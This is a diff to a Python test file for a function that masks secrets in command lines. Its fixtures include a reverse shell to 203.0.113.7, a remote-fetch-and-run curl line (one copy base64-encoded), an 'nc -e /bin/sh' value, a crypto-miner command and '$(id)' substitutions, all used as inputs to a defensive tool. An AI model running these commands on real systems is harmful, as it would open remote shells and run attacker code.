@@ -57,6 +57,9 @@ def test_masked(text):
         "tar cf - /data",
         "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
         "xmrig -o stratum+tcp://pool.example.org:3333 -u 4AdUndXHHZ",
+        "login; curl http://203.0.113.7/x|sh",
+        "echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcveHxzaA== | base64 -d | sh",
+        "mkdir -p /etc/login.d",
     ],
 )
 def test_left_as_it_is(text):
@@ -68,6 +71,12 @@ def test_words_after_a_flag():
     assert mask_words(["x", "-u", f"a:{CANARY}"]) == ["x", "-u", "a:***"]
     assert mask_words(["x", "--password", "$(id)"]) == ["x", "--password", "$(id)"]
     assert mask_words(["x", "--token", "--verbose"]) == ["x", "--token", "--verbose"]
+    assert mask_words(["mysql", "-uroot", f"-p{CANARY}", "db"]) == ["mysql", "-uroot", "-p***", "db"]
+    assert mask_words(["mysql", "-p$(id)"]) == ["mysql", "-p$(id)"]
+    assert mask_words(["docker", "login", "-p", CANARY]) == ["docker", "login", "-p", "***"]
+    assert mask_words(["ssh", "-p", "22"]) == ["ssh", "-p", "22"]
+    assert mask_words(["x", "--password", "three plain words"]) == ["x", "--password", "***"]
+    assert mask_words(["x", "--password", "nc -e /bin/sh"]) == ["x", "--password", "nc -e /bin/sh"]
 
 
 def test_uris():
@@ -219,6 +228,17 @@ def test_redact_leaves_the_given_object_alone():
         "eyJ" * 60_000,
         "--a-" * 50_000,
         "mysql " * 30_000,
+        "login " * 30_000,
+        "redis-cli " * 20_000,
+        "cookie: a=b; " * 15_000,
+        "cookie: " + "a=b; " * 40_000,
+        "authorization: " * 15_000,
+        "--password='a b " * 15_000,
+        "--token='" + "a b " * 50_000,
+        "aToken" * 30_000,
+        "base64 " + "A" * 200_000,
+        "base64 " + "TOKEN" * 40_000,
+        "sig=" * 50_000,
     ],
 )
 def test_masking_takes_no_long_time(text):
